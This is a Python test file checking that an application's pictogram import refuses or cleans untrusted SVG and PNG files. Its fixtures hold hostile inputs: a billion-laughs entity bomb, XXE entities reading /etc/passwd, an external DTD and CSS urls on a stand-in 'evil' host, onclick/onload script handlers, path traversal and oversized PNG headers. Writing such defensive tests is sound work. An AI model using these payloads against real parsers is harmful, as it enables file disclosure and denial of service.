"""Untrusted pictograms: SVG that could reach outside itself or blow up, PNG that lies about
its size or is broken, are refused quickly; good ones are stored whole in the database."""

from __future__ import annotations

import struct
import time
import zlib
from pathlib import Path

import pytest

from workshop_studio.interchange.errors import ImportRefused
from workshop_studio.interchange.pictogram_intake import (
    MAX_PNG_SIDE,
    check_pictogram,
    check_png,
    import_pictogram_file,
    media_type_of,
)
from workshop_studio.interchange.svg_intake import check_svg
from workshop_studio.storage.engine import Database
from workshop_studio.storage.models import Pictogram

GOOD_SVG = (
    b'<?xml version="1.0" encoding="UTF-8"?>\n'
    b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="24" height="24" '
    b'viewBox="0 0 24 24"><defs><linearGradient id="g"/></defs>'
    b'<path d="M3 12h18" stroke="url(#g)" style="fill:url(#g)"/><use xlink:href="#g"/></svg>'
)

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<svg xmlns="http://www.w3.org/2000/svg"><text>&lol9;</text></svg>"""

NS = b'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'


def png(width: int = 2, height: int = 2, *, crc_ok: bool = True, with_data: bool = True) -> bytes:
    def chunk(kind: bytes, body: bytes) -> bytes:
        crc = zlib.crc32(kind + body) ^ (0 if crc_ok else 1)
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", crc)

    header = struct.pack(">IIBBBBB", width, height, 8, 6, 0, 0, 0)
    small = width * height <= 64 * 64  # whole pixels; a huge declared size is refused by its header first
    rows, columns = (height, width) if small else (min(height, 4), min(width, 4))
    pixels = zlib.compress(b"".join(b"\x00" + b"\xff\x00\x00\xff" * columns for _ in range(rows)))
    body = chunk(b"IHDR", header) + (chunk(b"IDAT", pixels) if with_data else b"") + chunk(b"IEND", b"")
    return b"\x89PNG\r\n\x1a\n" + body


def test_a_plain_pictogram_passes_unchanged() -> None:
    assert check_svg(GOOD_SVG, "ok.svg") == GOOD_SVG


@pytest.mark.parametrize(
    ("data", "words"),
    [
        (BILLION_LAUGHS, "declarations and entities"),
        (
            b'<!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><svg ' + NS + b"><text>&xxe;</text></svg>",
            "declarations and entities",
        ),
        (b"<svg " + NS + b'><image href="file:///etc/passwd"/></svg>', "outside file"),
        (b"<svg " + NS + b'><image xlink:href="../secret.svg"/></svg>', "outside file"),
        (b"<svg " + NS + b'><use xlink:href="other.svg#icon"/></svg>', "outside file"),
        (b"<svg " + NS + b'><image href="https://example.org/x.png"/></svg>', "outside file"),
        (b"<svg " + NS + b"><rect style=\"fill:url('/etc/passwd')\"/></svg>", "outside file"),
        (b"<svg " + NS + b'><rect fill="url(../secret.svg#p)"/></svg>', "outside file"),
        (b"<svg " + NS + b"><style>rect { fill: url(http://evil/x.svg#p) }</style></svg>", "outside file"),
        (b"<svg " + NS + b'><style>@import "theme.css";</style></svg>', "import"),
        (b"<svg " + NS + b"><style>rect { fill: u\\72l(x.svg#p) }</style></svg>", "escaped"),
        (b'<?xml-stylesheet href="evil.css"?><svg ' + NS + b"/>", "processing instructions"),
        (b"<svg " + NS + b'><rect onclick="alert(1)"/></svg>', "onclick"),
        (
            b'<!DOCTYPE svg [<!ENTITY % p SYSTEM "http://evil/x.dtd"> %p;]><svg ' + NS + b"/>",
            "declarations and entities",
        ),
        (b'<!DOCTYPE svg [<!ENTITY a "x&amp;y">]><svg ' + NS + b"/>", "declarations and entities"),
        (b"<!DOCTYPE svg [<!ELEMENT svg ANY>]><svg " + NS + b"/>", "declarations and entities"),
        (b"<svg " + NS + b'><rect onload="alert(1)"/></svg>', "onload"),
        (b"<svg " + NS + b' width="1e9" height="10"/>', "absurd size"),
        (b"<svg " + NS + b">" + b"<g/>" * 50_000 + b"</svg>", "too many elements"),
        (b"<html><body/></html>", "does not start with an <svg>"),
        (b"<svg", "not a readable SVG"),
    ],
)
def test_harmful_svg_is_refused_quickly(data: bytes, words: str) -> None:
    started = time.perf_counter()
    with pytest.raises(ImportRefused) as caught:
        check_svg(data, "bad.svg")
    assert words in caught.value.reason
    assert str(caught.value).startswith("bad.svg: ")
    print(f"{words}: {time.perf_counter() - started:.4f} s")  # looked at, not asserted


def test_an_inline_picture_is_allowed_but_not_an_inline_svg() -> None:
    ok = b"<svg " + NS + b'><image href="data:image/png;base64,iVBORw0KGgo="/></svg>'
    assert check_svg(ok) == ok
    with pytest.raises(ImportRefused):
        check_svg(b"<svg " + NS + b'><image href="data:image/svg+xml;base64,PHN2Zy8+"/></svg>')


def test_png_is_checked_chunk_by_chunk() -> None:
    assert check_png(png(3, 5)) == (3, 5)
    for bad, words in [
        (png(MAX_PNG_SIDE + 1, 10), "pixels"),
        (png(100_000, 100_000), "pixels"),
        (png(crc_ok=False), "checksum"),
        (png(with_data=False), "no image data"),
        (png()[:30], "cut short"),
        (b"\x89PNG\r\n\x1a\n" + b"\x00" * 40, "checksum"),
        (b"GIF89a....", "not a PNG"),
    ]:
        with pytest.raises(ImportRefused, match=words):
            check_png(bad, "p.png")


def test_the_type_comes_from_the_bytes() -> None:
    assert media_type_of(png()) == "image/png"
    assert media_type_of(b"\xef\xbb\xbf\n  <svg/>") == "image/svg+xml"
    assert media_type_of(b"\xff\xd8\xff\xe0 JFIF", "photo.jpg") == "image/jpeg"
    assert media_type_of(b"RIFF\x00\x00\x00\x00WEBPVP8 ", "photo.webp") == "image/webp"
    with pytest.raises(ImportRefused, match="SVG, PNG, JPEG or WebP"):
        media_type_of(b"GIF89a\x01\x00", "anim.gif")
    with pytest.raises(ImportRefused, match="declared as image/svg\\+xml"):
        check_pictogram(png(), "x", "image/svg+xml")


def test_import_a_png_and_an_svg_into_the_database(empty_db: Database, tmp_path: Path) -> None:
    (tmp_path / "pouce.png").write_bytes(png(16, 16))
    (tmp_path / "rond.svg").write_bytes(GOOD_SVG)
    first = import_pictogram_file(empty_db, tmp_path / "pouce.png", label="Pouce levé")
    second = import_pictogram_file(empty_db, tmp_path / "rond.svg", label="Pouce levé", label_en="Thumbs up")
    assert (first.key, second.key) == ("pouce-leve", "pouce-leve-2")
    (tmp_path / "pouce.png").unlink()
    with empty_db.read() as session:
        stored = session.get(Pictogram, first.id)
        assert (stored.media_type, stored.data, stored.label_fr, stored.label_en) == (
            "image/png",
            png(16, 16),
            "Pouce levé",
            "Pouce levé",
        )
        assert session.get(Pictogram, second.id).label_en == "Thumbs up"


INKSCAPE = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="no"?>\n'
    b'<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n'
    b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape" '
    b'xmlns:sodipodi="http://sodipodi.sourceforge.net/DTD/sodipodi-0.dtd" viewBox="0 0 10 10" '
    b'inkscape:version="1.2">'
    b'<sodipodi:namedview id="nv" only_selected="false" inkscape:zoom="1"/>'
    b'<metadata><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"/></metadata>'
    b'<script type="text/javascript">/* mesh polyfill */ var x = 1;</script>'
    b'<rect width="10" height="10" fill="#0a0" inkscape:label="box" only_selected="false"/></svg>'
)

ILLUSTRATOR = (
    b'<?xml version="1.0" encoding="utf-8"?>\n<!-- Generator: Adobe Illustrator 16.0.0 -->\n'
    b'<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd" [\n'
    b'\t<!ENTITY ns_extend "http://ns.adobe.com/Extensibility/1.0/">\n'
    b'\t<!ENTITY ns_ai "http://ns.adobe.com/AdobeIllustrator/10.0/">\n'
    b'\t<!ENTITY ns_svg "http://www.w3.org/2000/svg">\n]>\n'
    b'<svg version="1.1" xmlns:x="&ns_extend;" xmlns:i="&ns_ai;" xmlns="&ns_svg;" viewBox="0 0 10 10">'
    b'<switch><foreignObject requiredExtensions="&ns_ai;" x="0" y="0" width="1" height="1">'
    b'<i:pgfRef xlink:href="#adobe_illustrator_pgf" xmlns:xlink="http://www.w3.org/1999/xlink"/></foreignObject>'
    b'<g i:extraneous="self"><circle cx="5" cy="5" r="4" fill="#c00"/></g></switch>'
    b'<i:pgf id="adobe_illustrator_pgf"><![CDATA[eJzs vQtwJFd]]></i:pgf></svg>'
)


@pytest.mark.parametrize(("data", "kept"), [(INKSCAPE, b"<rect"), (ILLUSTRATOR, b"<circle")])
def test_what_editors_add_is_removed_and_the_drawing_kept(data: bytes, kept: bytes) -> None:
    cleaned = check_svg(data, "editor.svg")
    for gone in (b"DOCTYPE", b"ENTITY", b"<script", b"foreignObject", b"pgf", b"inkscape", b"sodipodi", b"metadata"):
        assert gone not in cleaned
    assert kept in cleaned
    assert check_pictogram(cleaned, "editor.svg") == "image/svg+xml"


def test_an_attribute_starting_with_on_is_not_an_event() -> None:
    svg = b"<svg " + NS + b' viewBox="0 0 2 2"><rect width="2" height="2" only_selected="false" one="1"/></svg>'
    assert check_svg(svg) == svg
